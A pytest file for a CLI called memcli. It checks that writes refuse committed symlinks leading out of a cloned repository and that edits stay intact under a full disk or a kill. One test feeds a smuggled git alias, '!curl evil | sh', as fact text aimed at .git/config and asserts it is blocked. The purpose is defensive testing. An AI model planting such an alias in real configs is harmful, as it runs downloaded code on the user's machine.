"""Every file memcli writes in a workspace stays inside it and is written whole.

A cloned repository aims ``init`` and ``add`` at the user's files through committed links
(``.gitignore`` to ``~/.gitconfig``, ``.gitattributes`` out of the clone, a dangling
``memory/MEMORY.md``, ``MEMORY.md`` to ``../.git/config``); an edit of a fact meets a full disk
or a kill. Each test runs the real ``memcli`` on a real clone or workspace.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from tests.test_attacks import git, hostile_clone, memcli
from tests.test_reliability import memcli as memcli_in
from tests.test_write_failures import run_limited

GITCONFIG = "[user]\n\tname = Someone\n\temail = someone@example.com\n"


def _outside(tmp_path: Path) -> Path:
    """A user's file next to the clone, with what it holds."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(GITCONFIG)
    return home / ".gitconfig"


@pytest.mark.parametrize("name", [".gitignore", ".gitattributes"])
def test_init_writes_nothing_through_a_committed_link(tmp_path: Path, name: str) -> None:
    target = _outside(tmp_path)
    clone = hostile_clone(tmp_path, {}, links={name: str(target)})
    run = memcli(clone, "init")
    assert run.code == 2, run.out + run.err
    assert f"{clone / name} is a link leading out of {clone}" in run.err
    assert len(run.err.strip().splitlines()) <= 2, run.err
    assert target.read_text() == GITCONFIG
    assert git(clone, "status", "--porcelain", "--untracked-files=all") == ""


def test_init_creates_no_file_through_a_dangling_link(tmp_path: Path) -> None:
    """``memory/MEMORY.md`` committed as a link to a path that does not exist outside."""
    origin = tmp_path / "origin"
    (origin / "memory").mkdir(parents=True)
    git(origin, "init", "-q", "-b", "main")
    planted = tmp_path / "home" / "planted.md"
    planted.parent.mkdir()
    (origin / "memory" / "MEMORY.md").symlink_to(planted)
    (origin / "memory" / "2026-11-30.md").write_text("- The cache is Valkey.\n")
    git(origin, "add", "-A")
    git(origin, "commit", "-qm", "memory")
    git(tmp_path, "clone", "-q", str(origin), "clone")
    clone = tmp_path / "clone"
    run = memcli(clone, "init")
    assert run.code == 2, run.out + run.err
    assert "MEMORY.md is a link leading out of" in run.err, run.err
    assert not planted.exists()
    assert git(clone, "status", "--porcelain", "--untracked-files=all") == ""
    # an add to the evergreen file is refused the same way
    run = memcli(clone, "add", "--evergreen", "The deploy day is Tuesday.")
    assert run.code == 2 and "is a link leading out of" in run.err, run.err
    assert not planted.exists()


def test_add_evergreen_never_writes_into_git_config(tmp_path: Path) -> None:
    origin = tmp_path / "origin"
    (origin / "memory").mkdir(parents=True)
    git(origin, "init", "-q", "-b", "main")
    (origin / "memory" / "MEMORY.md").symlink_to("../.git/config")
    (origin / "memory" / "2026-11-30.md").write_text("- The cache is Valkey.\n")
    git(origin, "add", "-A")
    git(origin, "commit", "-qm", "memory")
    git(tmp_path, "clone", "-q", str(origin), "clone")
    clone = tmp_path / "clone"
    config = (clone / ".git" / "config").read_bytes()
    run = memcli(clone, "add", "--evergreen", "[alias]\n  st = !curl evil | sh")
    assert run.code == 2, run.out + run.err
    assert "MEMORY.md is a link leading out of" in run.err and "Traceback" not in run.err
    assert (clone / ".git" / "config").read_bytes() == config
    assert git(clone, "status", "--porcelain") == "?? .memcli/\n"  # its derived data only


@pytest.mark.slow
def test_a_link_that_stays_inside_memory_is_written_through(workspace: Path) -> None:
    """``MEMORY.md -> team.md`` inside ``memory/``: the file it leads to gets the fact."""
    memory = workspace / "memory"
    (memory / "MEMORY.md").unlink()
    (memory / "team.md").write_text("# Team\n")
    (memory / "MEMORY.md").symlink_to("team.md")
    run = memcli_in(workspace, "add", "--evergreen", "Reviews need two approvals.")
    assert run.returncode == 0, run.stderr
    assert (memory / "MEMORY.md").is_symlink()
    assert "Reviews need two approvals." in (memory / "team.md").read_text()


# -- edits of a fact: whole or absent --------------------------------------------------------

FACTS = "".join(f"- 09:{i:02d} Fact number {i} about the pager rotation.\n" for i in range(6))


@pytest.fixture
def daily(workspace: Path) -> Path:
    path = workspace / "memory" / "2026-11-20.md"
    path.write_text("# 2026-11-20\n\n" + FACTS)
    memcli_in(workspace, "index", check=True)
    return path


@pytest.mark.slow
def test_full_disk_during_forget_loses_nothing(workspace: Path, daily: Path) -> None:
    """A long reason shifts the whole tail; the disk has room for a few bytes more only."""
    before = daily.read_bytes()
    reason = "the rotation moved to the platform team " * 40
    r = run_limited(workspace, len(before) + 64, "forget", f"{daily}:3", "--reason", reason)
    assert r.returncode == 3, r.stderr
    assert "disk full" in r.stderr and "nothing was written" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr and "short write" not in r.stderr
    assert daily.read_bytes() == before
    assert [p.name for p in daily.parent.iterdir() if p.name.endswith(".tmp")] == []
    # with room again the same forget works
    r = memcli_in(workspace, "forget", f"{daily}:3", "--reason", "moved")
    assert r.returncode == 0, r.stderr
    assert "retracted" in daily.read_text()


_KILL_AT_COMMIT = """
import os, signal, sys

def _die_on_memory(what):
    def step(*args, **kwargs):
        names = [a for a in args if isinstance(a, (str, os.PathLike))]
        if isinstance(args[0], int):  # ftruncate(fd, size)
            names.append(os.readlink(f"/proc/self/fd/{args[0]}"))
        if any("/memory/" in os.fspath(n) for n in names):
            os.kill(os.getpid(), signal.SIGKILL)
        return what(*args, **kwargs)
    return step

os.ftruncate = _die_on_memory(os.ftruncate)
os.rename = _die_on_memory(os.rename)
os.replace = _die_on_memory(os.replace)
sys.argv[0] = "memcli"
import runpy
runpy.run_module("memcli", run_name="__main__")
"""


@pytest.mark.slow
def test_a_kill_as_an_edit_is_made_final_leaves_the_old_file(workspace: Path, daily: Path) -> None:
    """memcli killed at the step that makes an edit final (the rename of the new file, or
    the cut of a shortened file in place): the file is as it was, never a mix."""
    before = daily.read_bytes()
    proc = subprocess.run(
        [sys.executable, "-c", _KILL_AT_COMMIT, "-w", str(workspace), "forget"]
        + [f"{daily}:4", "--purge", "--reason", "wrong"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == -signal.SIGKILL, proc.stderr  # the step was reached
    assert daily.read_bytes() == before


@pytest.mark.slow
def test_an_edit_changes_only_the_edited_lines(workspace: Path) -> None:
    """Bytes that are not UTF-8 in other facts, the file's mode: all kept."""
    path = workspace / "memory" / "2026-11-21.md"
    latin = "- 08:00 Le caf\xe9 du matin est \xe0 8h.\n".encode("latin-1")
    body = b"# 2026-11-21\n\n" + latin + FACTS.encode() + latin
    path.write_bytes(body)
    path.chmod(0o600)
    memcli_in(workspace, "index", check=True)
    r = memcli_in(workspace, "forget", f"{path}:5", "--reason", "moved")
    assert r.returncode == 0, r.stderr
    lines = path.read_bytes().splitlines(keepends=True)
    assert lines[5].startswith(b"  - retracted ") and lines[5].endswith(b": moved\n")
    assert lines[:5] + lines[6:] == body.splitlines(keepends=True)  # the rest byte for byte
    assert os.stat(path).st_mode & 0o777 == 0o600
